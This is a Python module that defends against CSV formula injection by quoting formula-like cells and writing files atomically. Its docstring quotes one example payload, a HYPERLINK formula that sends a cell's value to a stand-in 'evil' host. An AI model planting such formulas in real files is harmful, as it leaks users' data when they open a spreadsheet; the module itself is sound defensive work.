"""CSV files that a spreadsheet opens as data, never as formulas.

A cell such as ``=HYPERLINK("http://evil/?"&A1,"Click")`` copied from an
uploaded file into a predictions CSV runs as a formula when the user opens the
file in Excel or LibreOffice. Following OWASP's CSV-injection guidance, every
text cell (and column name) that begins with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return gets a leading single quote, and text cells are written
quoted. Numeric columns are left alone: ``-3.5`` stays a number.

Files are written atomically (a temporary file in the same folder, then a
rename; mode 0600), so a reader never sees half a file and a link planted at
the destination is replaced, not followed.
"""

from __future__ import annotations

import csv
import io
import logging
import re
from pathlib import Path

import pandas as pd

from tools.io.atomic import write_bytes_atomic

log = logging.getLogger(__name__)

FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP)."""

_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def neutralise_cell(value: str) -> str:
    """``value`` with a leading single quote when it starts like a formula."""
    return "'" + value if value.startswith(FORMULA_PREFIXES) else value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names cannot start a formula.

    Only text columns (strings, objects, categories) change, and in them only
    string cells: numbers, booleans, dates and missing values stay as they are.
    """
    safe = frame.copy()
    safe.columns = pd.Index(
        [neutralise_cell(c) if isinstance(c, str) else c for c in frame.columns], dtype=object
    )
    for position in range(safe.shape[1]):
        column = safe.iloc[:, position]
        if isinstance(column.dtype, pd.CategoricalDtype):
            column = column.astype(object)
        elif not (column.dtype == object or pd.api.types.is_string_dtype(column.dtype)):
            continue
        safe.isetitem(
            position,
            column.map(
                lambda v: neutralise_cell(v) if isinstance(v, str) else v, na_action="ignore"
            ),
        )
    return safe


def csv_text(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text: formula-like text neutralised, text cells quoted, no index."""
    return neutralise_frame(frame).to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC)


def write_csv(frame: pd.DataFrame, path: Path) -> Path:
    """Write ``frame`` to ``path`` as a safe CSV (see :func:`csv_text`): atomically, mode 0600,
    its folder created when missing (:func:`tools.io.atomic.write_bytes_atomic`)."""
    data = csv_text(frame).encode("utf-8")
    written = write_bytes_atomic(path, data)
    log.info("csv_written rows=%d columns=%d bytes=%d", len(frame), frame.shape[1], len(data))
    return written


def neutralise_csv_bytes(data: bytes, *, delimiter: str | None = None) -> bytes:
    """Neutralise a CSV made elsewhere (for example by sandboxed code) cell by cell.

    Without column types, a cell is a number when it reads as one (``-3.5``,
    ``1e6``, ``007``) and is kept exactly, unquoted; every other cell is text:
    neutralised when it starts like a formula (``-2+3``, ``=SUM(A1)``) and quoted.
    Text that is not UTF-8 is read as Latin-1; the result is UTF-8. The delimiter is
    sniffed unless given.
    """
    try:
        text = data.decode("utf-8-sig")
    except UnicodeDecodeError:
        text = data.decode("latin-1")
    try:
        delimiter = delimiter or csv.Sniffer().sniff(text[: 1 << 16], delimiters=",;\t|").delimiter
    except csv.Error:
        delimiter = ","
    lines = []
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        lines.append(delimiter.join(_safe_field(cell) for cell in row))
    return ("\n".join(lines) + ("\n" if lines else "")).encode("utf-8")


def _safe_field(cell: str) -> str:
    if _NUMBER.fullmatch(cell):
        return cell
    return '"' + neutralise_cell(cell).replace('"', '""') + '"'


__all__ = [
    "FORMULA_PREFIXES",
    "csv_text",
    "neutralise_cell",
    "neutralise_csv_bytes",
    "neutralise_frame",
    "write_csv",
]
